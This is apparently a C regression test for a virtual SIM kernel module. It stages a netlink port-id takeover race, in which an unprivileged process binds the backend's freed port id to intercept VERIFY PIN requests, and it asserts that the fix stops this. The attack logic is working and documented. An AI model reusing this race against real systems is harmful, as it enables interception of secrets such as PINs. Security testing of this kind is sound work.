/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The port-id takeover attack on vusim.ko (issue 14), run as root inside
 * the test VM (tests/kernel/run-vusim-attack).  Prints TAP.
 *
 * Each round: a backend process adds SLOTS slots on one netlink socket
 * (orphan mode and VUSIM_SLOT_F_DELETE_ON_CLOSE in turn) and inserts cards;
 * modem threads write a VERIFY PIN command (the PIN in clear) to the last
 * slots again and again, which the backend answers at once; an attacker process running as nobody, told the backend's port
 * id (the strongest attacker: the id is no longer published, but an
 * autobound socket's id is its process id), spins on bind() to that port
 * id; then the backend closes its socket (odd rounds: exits).  Once bound,
 * the attacker listens, also answers and claims the slots with the port id
 * it now has, and a second socket of it listens on the events group.  It
 * must never receive a request, never see the PIN, and never be taken for
 * the backend.
 *
 * On the module before issue 14, which delivered requests with
 * genlmsg_unicast() to a port id that netlink_release() frees before
 * NETLINK_URELEASE lets the module forget it, the attacker binds the freed
 * id while the module still sends to it, and receives VERIFY PIN: the
 * "attacker receives nothing" point fails (and "no backend_portid in sysfs"
 * too).  Seen in the VM with 30 rounds each: requests received in 4 orphan
 * and 19 delete-on-close rounds, 48 of the 56 with the PIN still in them.
 *
 * Usage: vusim-attack PATH/TO/vusim.ko [ROUNDS]
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <linux/genetlink.h>
#include <linux/netlink.h>
#include <netlink/genl/ctrl.h>
#include <netlink/genl/genl.h>

#include "macro.h"
#include "vusim-nl.h"

#define SLOTS		16	/* the module's default max_slots */
#define MODEMS		4	/* modem threads, on the last slots */
#define TIMEOUT_MS	10	/* the slots' answer timeout */

static const uint8_t atr[] = { 0x3b, 0x02, 0x14, 0x50 };
/* VERIFY PIN 1 with PIN "1234" (TS 31.102 / ISO/IEC 7816-4 11.5.6). */
static const uint8_t verify_pin[] = { 0x00, 0x20, 0x00, 0x01, 0x08, '1', '2',
				      '3', '4', 0xff, 0xff, 0xff, 0xff };

static int tests, failures;

static void _printf_(2, 3) ok(bool cond, const char *fmt, ...)
{
	va_list ap;

	tests++;
	if (!cond)
		failures++;
	printf("%sok %d - ", cond ? "" : "not ", tests);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
}

static int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* What the attacker saw in one round. */
struct seen {
	int bound;		/* it got the backend's port id */
	int received;		/* messages other than acks, on that socket */
	int pin;		/* messages (any socket) holding the PIN */
	int accepted;		/* claims/answers the kernel did not refuse */
	int errors;		/* setup failures */
};

static bool has_pin(const uint8_t *buf, size_t len)
{
	return memmem(buf, len, verify_pin + 5, 4) != NULL;
}

/* A generic netlink request cmd with u32 attributes (slot, seq). */
static void send_req(int fd, uint16_t family, uint8_t cmd, uint32_t slot,
		     uint32_t seq)
{
	struct {
		struct nlmsghdr nlh;
		struct genlmsghdr genl;
		struct nlattr a1;
		uint32_t v1;
		struct nlattr a2;
		uint32_t v2;
		struct nlattr a3;
		uint8_t v3[4];
	} m = {
		.nlh = { .nlmsg_len = sizeof(m), .nlmsg_type = family,
			 .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK },
		.genl = { .cmd = cmd, .version = VUSIM_GENL_VERSION },
		.a1 = { .nla_len = 8, .nla_type = VUSIM_ATTR_SLOT },
		.v1 = slot,
		.a2 = { .nla_len = 8, .nla_type = VUSIM_ATTR_SEQ },
		.v2 = seq,
		.a3 = { .nla_len = 6, .nla_type = VUSIM_ATTR_APDU },
		.v3 = { 0x90, 0x00 },
	};
	struct sockaddr_nl k = { .nl_family = AF_NETLINK };

	if (cmd != VUSIM_CMD_APDU_RESPONSE)
		m.nlh.nlmsg_len -= sizeof(m.a3) + sizeof(m.v3);
	sendto(fd, &m, m.nlh.nlmsg_len, 0, (struct sockaddr *)&k, sizeof(k));
}

/* Reads what is queued on fd for up to ms; counts into *s. */
static void drain(int fd, int ms, uint16_t family, bool bound_socket,
		  struct seen *s)
{
	uint8_t buf[70000];
	int64_t end = now_ms() + ms;

	for (;;) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		int left = (int)(end - now_ms());
		ssize_t n;

		if (left <= 0 || poll(&p, 1, left) <= 0)
			return;
		n = recv(fd, buf, sizeof(buf), MSG_DONTWAIT);
		if (n <= 0)
			continue;
		if (has_pin(buf, n))
			s->pin++;
		for (struct nlmsghdr *h = (struct nlmsghdr *)buf;
		     NLMSG_OK(h, (size_t)n); h = NLMSG_NEXT(h, n)) {
			if (h->nlmsg_type == NLMSG_ERROR) {
				struct nlmsgerr *e = NLMSG_DATA(h);

				/* An ack with error 0: the kernel took it. */
				if (e->error == 0)
					s->accepted++;
			} else if (bound_socket) {
				s->received++;
			} else if (h->nlmsg_type == family) {
				struct genlmsghdr *g = NLMSG_DATA(h);

				if (g->cmd != VUSIM_CMD_EVENT)
					s->received++;
			}
		}
	}
}

/*
 * The attacker: nobody, no capability.  Spins on bind() to portid until
 * the backend's socket lets go of it, then listens and tries to act as the
 * backend.  Writes its struct seen to out.
 */
static void attacker(int ready, int out, uint32_t portid, uint16_t family,
		     uint32_t mcgrp, const uint32_t *slots)
{
	struct seen s = { 0 };
	struct sockaddr_nl a = { .nl_family = AF_NETLINK, .nl_pid = portid };
	int fd, ev;
	int64_t end;

	if (setgid(65534) < 0 || setuid(65534) < 0)
		_exit(2);
	fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_GENERIC);
	ev = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_GENERIC);
	if (fd < 0 || ev < 0 ||
	    setsockopt(ev, SOL_NETLINK, NETLINK_ADD_MEMBERSHIP, &mcgrp,
		       sizeof(mcgrp)) < 0)
		s.errors++;
	if (write(ready, "r", 1) != 1)
		_exit(3);
	end = now_ms() + 3000;
	while (now_ms() < end) {
		if (bind(fd, (struct sockaddr *)&a, sizeof(a)) == 0) {
			s.bound = 1;
			break;
		}
		if (errno != EADDRINUSE) {
			s.errors++;
			break;
		}
	}
	if (s.bound) {
		/* The identity the old module went by: claim and answer. */
		for (int i = 0; i < SLOTS; i++) {
			send_req(fd, family, VUSIM_CMD_SLOT_CLAIM, slots[i], 1);
			for (uint32_t seq = 1; seq < 4; seq++)
				send_req(fd, family, VUSIM_CMD_APDU_RESPONSE,
					 slots[i], seq);
		}
		drain(fd, 300, family, true, &s);
	}
	drain(ev, 10, family, false, &s);
	if (write(out, &s, sizeof(s)) != sizeof(s))
		_exit(3);
	_exit(0);
}

/*
 * The backend: adds the slots, reports them, answers every command at once
 * (so that the slots are free for the next command nearly all the time),
 * and closes its socket the moment it is told.
 */
static void backend(int report, int go, uint32_t flags, bool exit_instead)
{
	struct {
		uint32_t portid;
		uint32_t slots[SLOTS];
	} r;
	struct vusim_nl *nl;
	struct pollfd p[2];

	if (vusim_nl_open(&nl) < 0)
		_exit(2);
	r.portid = vusim_nl_portid(nl);
	for (int i = 0; i < SLOTS; i++)
		if (vusim_nl_slot_add(nl, flags, TIMEOUT_MS, &r.slots[i]) < 0 ||
		    vusim_nl_card_insert(nl, r.slots[i], atr, sizeof(atr)) < 0)
			_exit(2);
	if (write(report, &r, sizeof(r)) != sizeof(r))
		_exit(3);
	p[0] = (struct pollfd){ .fd = go, .events = POLLIN };
	p[1] = (struct pollfd){ .fd = vusim_nl_fd(nl), .events = POLLIN };
	while (poll(p, 2, -1) >= 0 && !p[0].revents) {
		struct vusim_request req;

		if (vusim_nl_recv_request(nl, 0, &req) == 1 &&
		    req.kind == VUSIM_REQUEST_APDU)
			vusim_nl_apdu_response(nl, req.slot, req.seq,
					       (const uint8_t[]){ 0x90, 0x00 }, 2);
	}
	if (exit_instead)
		_exit(0);
	vusim_nl_close(nl);
	pause();	/* killed by the parent */
	_exit(0);
}

struct modem {
	pthread_t thread;
	int fd;
	atomic_bool *stop;
	int sent;
};

/* Writes VERIFY PIN whenever the slot takes it, until told to stop. */
static void *modem_main(void *p)
{
	struct modem *m = p;
	uint8_t rsp[64];

	while (!atomic_load(m->stop)) {
		ssize_t n = write(m->fd, verify_pin, sizeof(verify_pin));

		if (n == (ssize_t)sizeof(verify_pin)) {
			m->sent++;
			if (read(m->fd, rsp, sizeof(rsp)) < 0 &&
			    (errno == ENOMEDIUM || errno == ENODEV))
				break;
		} else if (errno == ENOMEDIUM || errno == ENODEV ||
			   errno == ENOLINK) {
			break;
		}
	}
	return NULL;
}

static int resolve(uint16_t *ret_family, uint32_t *ret_mcgrp)
{
	struct nl_sock *sk = nl_socket_alloc();
	int f, g;

	if (!sk || genl_connect(sk) < 0) {
		nl_socket_free(sk);
		return -1;
	}
	f = genl_ctrl_resolve(sk, VUSIM_GENL_NAME);
	g = genl_ctrl_resolve_grp(sk, VUSIM_GENL_NAME, VUSIM_GENL_MCGRP_EVENTS);
	nl_socket_free(sk);
	if (f < 0 || g < 0)
		return -1;
	*ret_family = (uint16_t)f;
	*ret_mcgrp = (uint32_t)g;
	return 0;
}

/* One round; adds what the attacker saw to *total.  false: setup failed. */
static bool round_run(int round, uint32_t flags, uint16_t family,
		      uint32_t mcgrp, struct seen *total, int *sent)
{
	int rep[2], go[2], rdy[2], res[2];
	struct {
		uint32_t portid;
		uint32_t slots[SLOTS];
	} r;
	struct modem m[MODEMS];
	atomic_bool stop = false;
	struct seen s = { 0 };
	pid_t b, a;
	char c;

	if (pipe2(rep, O_CLOEXEC) < 0 || pipe2(go, O_CLOEXEC) < 0 ||
	    pipe2(rdy, O_CLOEXEC) < 0 || pipe2(res, O_CLOEXEC) < 0)
		return false;
	b = fork();
	if (b == 0)
		backend(rep[1], go[0], flags, round % 2);
	if (read(rep[0], &r, sizeof(r)) != sizeof(r)) {
		waitpid(b, NULL, 0);
		return false;
	}
	if (round == 0) {
		char path[64];

		snprintf(path, sizeof(path),
			 "/sys/class/vusim/vusim%u/backend_portid", r.slots[0]);
		ok(access(path, F_OK) < 0,
		   "sysfs has no backend_portid (the port id is not published)");
	}
	a = fork();
	if (a == 0)
		attacker(rdy[1], res[1], r.portid, family, mcgrp, r.slots);
	if (read(rdy[0], &c, 1) != 1)
		s.errors++;
	for (int i = 0; i < MODEMS; i++) {
		m[i].fd = vusim_modem_open(r.slots[SLOTS - MODEMS + i], 0);
		m[i].stop = &stop;
		m[i].sent = 0;
		pthread_create(&m[i].thread, NULL, modem_main, &m[i]);
	}
	usleep(30000);	/* the modems are writing */
	if (write(go[1], "g", 1) != 1)
		s.errors++;
	if (read(res[0], &s, sizeof(s)) != sizeof(s))
		s.errors++;
	atomic_store(&stop, true);
	for (int i = 0; i < MODEMS; i++) {
		pthread_join(m[i].thread, NULL);
		*sent += m[i].sent;
		close(m[i].fd);
	}
	kill(b, SIGKILL);
	waitpid(b, NULL, 0);
	waitpid(a, NULL, 0);
	if (!(flags & VUSIM_SLOT_F_DELETE_ON_CLOSE)) {
		struct vusim_nl *nl;

		if (vusim_nl_open(&nl) == 0) {
			for (int i = 0; i < SLOTS; i++)
				vusim_nl_slot_del(nl, r.slots[i]);
			vusim_nl_close(nl);
		}
	}
	for (int i = 0; i < 2; i++) {
		close(rep[i]);
		close(go[i]);
		close(rdy[i]);
		close(res[i]);
	}
	if (s.received || s.pin || s.accepted)
		printf("# round %d (%s): bound %d, received %d, PIN seen %d, accepted %d\n",
		       round, flags ? "delete on close" : "orphan", s.bound,
		       s.received, s.pin, s.accepted);
	total->bound += s.bound;
	total->received += s.received;
	total->pin += s.pin;
	total->accepted += s.accepted;
	total->errors += s.errors;
	return true;
}

int main(int argc, char **argv)
{
	int rounds = argc > 2 ? atoi(argv[2]) : 30;
	_cleanup_close_ int mfd = -1;
	uint16_t family;
	uint32_t mcgrp;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2 || rounds < 1) {
		fprintf(stderr, "usage: vusim-attack PATH/TO/vusim.ko [ROUNDS]\n");
		return 2;
	}
	if (!getenv("VM") || geteuid() != 0) {
		printf("1..0 # SKIP vusim-attack loads vusim.ko: it runs in the test VM only\n");
		return 77;
	}
	signal(SIGPIPE, SIG_IGN);
	mfd = open(argv[1], O_RDONLY | O_CLOEXEC);
	ok(mfd >= 0 && syscall(SYS_finit_module, mfd, "", 0) == 0,
	   "vusim.ko loads");
	if (resolve(&family, &mcgrp) < 0) {
		ok(false, "the family and its events group resolve");
		printf("1..%d\n", tests);
		return 1;
	}

	for (int mode = 0; mode < 2; mode++) {
		uint32_t flags = mode ? VUSIM_SLOT_F_DELETE_ON_CLOSE : 0;
		const char *name = mode ? "delete on close" : "orphan";
		struct seen t = { 0 };
		int done = 0, sent = 0;

		for (int i = 0; i < rounds; i++)
			done += round_run(i, flags, family, mcgrp, &t, &sent);
		ok(done == rounds && t.errors == 0,
		   "%s: %d rounds ran (%d VERIFY PIN sent, port id bound by the attacker in %d)",
		   name, done, sent, t.bound);
		ok(t.received == 0,
		   "%s: the attacker receives nothing on the backend's port id (%d messages)",
		   name, t.received);
		ok(t.pin == 0, "%s: the PIN never reaches the attacker (%d)",
		   name, t.pin);
		ok(t.accepted == 0,
		   "%s: claims and answers from the port id are refused (%d taken)",
		   name, t.accepted);
	}
	ok(syscall(SYS_delete_module, "vusim", O_NONBLOCK) == 0, "vusim.ko unloads");
	printf("1..%d\n", tests);
	return failures ? 1 : 0;
}
